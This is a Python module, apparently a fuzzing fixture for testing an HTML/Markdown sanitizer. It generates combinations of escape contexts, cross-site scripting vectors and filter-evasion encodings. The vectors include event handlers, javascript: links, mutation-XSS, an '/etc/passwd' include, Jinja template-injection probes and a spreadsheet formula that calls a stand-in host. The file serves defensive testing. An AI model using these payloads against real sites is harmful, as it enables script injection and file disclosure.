"""Families of hostile text by combination: the context it escapes from × what it does × how it is encoded.

The pages are opened with a function ``__hit(n)``; a call counts as an execution. The hosts named here do not exist.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

FOREIGN = "la.invalid"

#: The contexts that text may stand in, and how it escapes from each.
CONTEXTS: dict[str, str] = {
    "text": "{}", "double quotes": '"> {}', "single quotes": "'> {}", "attribute": '" {} x="', "comment": "--> {} <!--", "title": "</title>{}",
    "textarea": "</textarea></style></noscript>{}", "script": "</script>{}", "cdata": "]]>{}", "template": "</template></svg></math>{}", "code span": "`` ` ``{}`",
    "fence": "\n```\n{}\n```\n", "table": "\n| a |\n|---|\n| {} |\n", "quote": "> - 1. {}", "html block": "\n<div>\n{}\n</div>\n", "heading": "\n## {}\n",
}  # fmt: skip
#: What it does once it is out.
VECTORS: dict[str, str] = {
    "script": "<script>__hit({n})</script>", "image": "<img src=x onerror=__hit({n})>", "quoted image": "<img src='x' onerror='__hit({n})'>", "drawing": "<svg onload=__hit({n})>",
    "animation": "<svg><animate onbegin=__hit({n}) attributeName=x dur=1s>", "use": "<svg><use href='data:image/svg+xml,<svg id=x onload=__hit({n})>#x'/></svg>",
    "frame": "<iframe srcdoc='<script>parent.__hit({n})</script>'></iframe>", "details": "<details open ontoggle=__hit({n})>x", "focus": "<input autofocus onfocus=__hit({n})>",
    "link": "<a href=javascript:__hit({n})>x</a>", "base": "<base href=//la.invalid/>", "refresh": "<meta http-equiv=refresh content='0;url=//la.invalid/{n}'>",
    "object": "<object data='data:text/html,<script>parent.__hit({n})</script>'></object>", "form": "<form action=//la.invalid/{n}><button formaction=javascript:__hit({n})>x</button></form>",
    "video": "<video><source onerror=__hit({n})></video>", "style": "<style>@import '//la.invalid/{n}';*{{background:url(//la.invalid/{n})}}</style>",
    "style attribute": "<p style='background:url(//la.invalid/{n})'>x</p>", "sheet": "<link rel=stylesheet href=//la.invalid/{n}>", "far image": "<img src=//la.invalid/{n}>",
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__hit({n})&gt;'>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=__hit({n})>'>", "mutation by svg": "<svg></p><style><a id='</style><img src=x onerror=__hit({n})>'>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit({n})>", "shadow": "<div><template shadowrootmode=open><img src=x onerror=__hit({n})></template></div>",
    "markdown link": "[x](javascript:__hit({n}))", "markdown data": "[x](data:text/html;base64,PHNjcmlwdD4=)", "markdown reference": "[x][h{n}]\n\n[h{n}]: javascript:__hit({n})",
    "markdown image": '![x](x"onerror="__hit({n}))', "markdown far image": "![x](https://la.invalid/{n}.jpg)", "markdown title": '[x](https://vi-du.invalid/ "\\" onmouseover=\\"__hit({n})")',
    "autolink": "<javascript:__hit({n})>", "attribute list": "x{{: onclick=__hit({n}) style=color:red }}", "footnote": "x[^h{n}]\n\n[^h{n}]: <img src=x onerror=__hit({n})>",
    "include": "--8<-- '/etc/passwd' {{% include '/etc/passwd' %}}", "jinja": "{{{{ ''.__class__.__mro__ }}}} {{% for a in [] %}}", "vbscript": "[x](vbscript:__hit({n}))",
    "handler alone": "onmouseover=__hit({n}) autofocus onfocus=__hit({n})", "formula": "=HYPERLINK(\"https://la.invalid/{n}\",\"x\")", "json": "\",\"x\":\"</script><img src=x onerror=__hit({n})>", "twigs": "${{__hit({n})}}#{{7*7}}<%= 7*7 %>",
}  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#{ord(char)};" if char in "<>\"'=:(" else char for char in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(char):x}" if char in "<>:j" else char for char in text)


#: How it hides.
ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "capitals": lambda text: text.replace("script", "ScRiPt").replace("onerror", "OnErRoR").replace("img", "ImG"),
    "entities": _entities,
    "hexadecimal": _hexadecimal,
    "twice": lambda text: _entities(text).replace("&", "&amp;"),
    "tabs": lambda text: text.replace("javascript", "java\tscript").replace(" on", "\non").replace("<script", "<script\n"),
    "slashes": lambda text: text.replace(" on", "/on").replace("<img ", "<img/x=y/"),
    "percent": lambda text: text.replace("<", "%3C").replace(">", "%3E").replace(":", "%3A"),
    "spaces": lambda text: text.replace("javascript", "\u00a0\u3000javascript").replace("(java", "(\u2001java"),
    "wide": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e").replace("script", "\u017fcript"),
    "broken": lambda text: text.replace("<script>", "<scr<script>ipt>").replace("<img", "<<img").replace("javascript:", "javajavascript:script:"),
}  # fmt: skip


def payloads(step: int = 1) -> Iterator[str]:
    """Yield every ``step``-th combination, each with a number of its own; a step without common divisors visits all lists."""
    number = 0
    for context in CONTEXTS.values():
        for vector in VECTORS.values():
            for encode in ENCODINGS.values():
                number += 1
                if number % step == 0:
                    yield context.replace("{}", encode(vector.format(n=number)))
